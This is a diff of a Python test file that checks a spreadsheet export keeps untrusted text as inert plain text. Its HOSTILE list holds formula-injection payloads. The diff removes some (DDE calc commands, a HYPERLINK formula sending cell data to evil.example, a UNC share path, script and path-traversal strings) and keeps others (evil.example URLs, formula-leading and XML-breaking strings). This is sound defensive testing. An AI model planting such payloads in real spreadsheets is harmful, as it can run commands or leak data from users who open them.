@@ -7,42 +7,43 @@ import io
 import re
 import subprocess
 import zipfile
+from dataclasses import replace
 from datetime import date, datetime
 from pathlib import Path
 from typing import Any
 
 import openpyxl
+import pandas as pd
 import pytest
+from openpyxl.utils.escape import unescape
 
 import jobstats as js
 from jobstats.pack.cells import columns_of
 from jobstats.pack.contents import Contents
-from jobstats.pack.workbook import workbook
+from jobstats.pack.workbook import fit, workbook
+from jobstats.page import Drawn
 from tests.pack.contents import everywhere, of
+from tests.pack.hostile import words
 from tests.programs import program
 
+#: Those of faults.json, and what a spreadsheet in particular could take for something else.
 HOSTILE = [
-    "=cmd|' /C calc'!A0",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+9)",
+    *words().values(),
     "\t=1",
-    "\n=1+1",
-    "＝1+1",
+    "\r=1",
+    "=1+1",
     "\ufeff=1+1",
-    '=HYPERLINK("http://evil.example/?"&A1,"Acme")',
     "http://evil.example/p.png",
     "mailto:a@evil.example",
     "file://evil.example/x",
     "internal:Sheet1!A1",
-    "\\\\evil.example\\share\\x.png",
     "{=1+1}",
+    "<r><t>a</t></r>",
+    "<r></si><si><t>b</t></r>",
     "007",
     "1e5",
     "TRUE",
     "_x003D_1+1",
-    "<script>alert(1)</script>",
-    "../../../../pwned",
     "",
 ]
 TOP = 6  # the first row of cells below the header
@@ -63,6 +64,11 @@ def contents(sample: js.JobLog) -> Contents:
 def content(contents: Contents) -> bytes:
     """Its workbook."""
     return workbook(contents)
+
+
+def reads(value: str | None, word: str) -> bool:
+    """Whether a cell holds this text; openpyxl leaves control signs as they are written in the file."""
+    return word in (value or "", unescape(value or ""))
 
 
 def shown(cell: Any) -> str:
@@ -205,21 +211,29 @@ def test_nothing_in_it_is_live_or_hidden(content: bytes) -> None:
     plain(content)
 
 
-@pytest.mark.parametrize("word", HOSTILE)
-def test_a_hostile_word_is_a_plain_text_everywhere(word: str, empty: js.JobLog) -> None:
-    """Wherever a text can stand, in titles of columns too, it comes back as it went in."""
-    content = workbook(everywhere(word, empty))
+def test_hostile_words_are_plain_text_everywhere(empty: js.JobLog) -> None:
+    """Wherever a text can stand, in titles of columns too, each comes back as it went in; one sheet for each, called by the kit and not by it."""
+    drawn = [
+        Drawn(
+            "funnel", word, word, word, word, (("What it is", word), (word, word)), pd.DataFrame({word: [word, word], "n": ["1", word]}), {}
+        )
+        for word in HOSTILE
+    ]
+    content = workbook(replace(everywhere("=1+1", empty), charts=tuple(drawn)))
     plain(content)
-    sheet = opened(content)["funnel"]
-    assert [sheet.cell(row, 1).value or "" for row in (1, 2, 3, 5, 6, 7)] == [word] * 6
-    assert all(sheet.cell(row, 1).data_type in "sn" for row in (1, 5, 6))
+    book = opened(content)
+    assert book.sheetnames[:3] == ["Definitions", "funnel", "funnel 2"]
+    for sheet, word in zip(book.worksheets[1:], HOSTILE, strict=True):
+        places = [sheet.cell(row, 1) for row in (1, 2, 3, 5, 6, 7)]
+        assert all(reads(cell.value, fit(word)) for cell in places), word
+        assert all(cell.data_type in "sn" for cell in places)
 
 
 def test_what_no_cell_can_hold_is_told(empty: js.JobLog) -> None:
     """Half of a pair, a sign no XML knows, a text longer than a cell: shown as � and “…”, the file stays whole."""
     sheet = opened(workbook(everywhere("a\ud800b\uffffc" + "x" * 40_000, empty)))["funnel"]
     assert sheet["A6"].value.startswith("a\ufffdb\ufffdcxxx")
-    assert (len(sheet["A6"].value), sheet["A6"].value[-1]) == (32_767, "…")
+    assert (len(sheet["A6"].value), sheet["A6"].value[-1]) == (32_766, "…")
 
 
 def test_the_same_contents_give_the_same_bytes(contents: Contents, content: bytes) -> None:
